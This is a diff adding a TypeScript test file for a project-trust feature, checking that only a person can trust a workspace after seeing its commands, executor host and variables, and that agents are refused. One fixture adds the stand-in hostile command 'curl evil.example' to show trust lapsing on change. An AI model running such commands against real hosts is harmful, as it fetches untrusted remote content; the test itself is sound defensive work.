@@ -1,0 +1,68 @@
+/** Trust given from a window: only by a person, and only to what they have seen. */
+import { appendFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import { addCommand, asAgent, claimOf, COORDINATOR } from '../../support/plan-builder.ts'
+import { failureOf, openPageBench, type PageBench } from '../page-client.ts'
+
+let bench: PageBench
+beforeEach(async () => {
+  bench = await openPageBench()
+  const { root, yard } = bench.test
+  writeFileSync(join(root, 'home', '.local', 'share', 'yard', 'trust.json'), '{}')
+  appendFileSync(
+    yard.paths.config,
+    '\n[executors.sly]\ntype = "claude"\nbase_url = "https://far.example"\napi_key_env = "SOME_KEY"\n',
+  )
+  await bench.run(addCommand('made', { exec: 'make all', verify: 'make check' }))
+  await bench.client.service.reload({})
+})
+afterEach(() => bench.close())
+
+describe('a yard that nobody trusts yet', () => {
+  it('shows what it would run, where it would ask, and what it would read', async () => {
+    const shown = await bench.client.page.trust()
+    expect(shown.trusted).toBe(false)
+    expect(shown.executors.join('\n')).toContain('asks https://far.example')
+    expect(shown.variables).toContain('SOME_KEY')
+    expect(shown.lines).toEqual([
+      { task: 'made', kind: 'exec', line: 'make all' },
+      { task: 'made', kind: 'verify', line: 'make check' },
+    ])
+  })
+
+  it('is trusted by a person who has seen that, at once and for all hosts', async () => {
+    const { seen } = await bench.client.page.trust()
+    expect(await bench.client.page.confirmTrust({ seen })).toEqual({ trusted: true })
+    expect(bench.test.yard.isTrusted()).toBe(true)
+    expect((await bench.client.service.snapshot()).summary.trusted).toBe(true)
+    expect((await bench.client.page.trust()).trusted).toBe(true)
+  })
+
+  it.each([
+    ['its config', async () => appendFileSync(bench.test.yard.paths.config, '\n# more\n')],
+    ['a line', async () => bench.run(addCommand('late', { exec: 'curl evil.example' }))],
+  ])('is not trusted when %s has changed since it was seen', async (_, change) => {
+    const { seen } = await bench.client.page.trust()
+    await change()
+    expect(await failureOf(bench.client.page.confirmTrust({ seen }))).toMatchObject({
+      kind: 'wrong-state',
+      message: 'what this yard would run has changed meanwhile',
+    })
+    await bench.client.service.reload({})
+    expect(bench.test.yard.isTrusted()).toBe(false)
+    const again = await bench.client.page.trust()
+    expect(again.seen).not.toBe(seen)
+    await bench.client.page.confirmTrust({ seen: again.seen })
+    expect(bench.test.yard.isTrusted()).toBe(true)
+  })
+
+  it('is never read or trusted by an agent', async () => {
+    await bench.run({ type: 'agents.claim', claims: [claimOf('made', 1)] }, COORDINATOR)
+    const agent = bench.clientOf(asAgent(1, 'made'))
+    const { seen } = await bench.client.page.trust()
+    expect((await failureOf(agent.page.trust())).kind).toBe('not-allowed')
+    expect((await failureOf(agent.page.confirmTrust({ seen }))).kind).toBe('not-allowed')
+    expect(bench.test.yard.isTrusted()).toBe(false)
+  })
+})
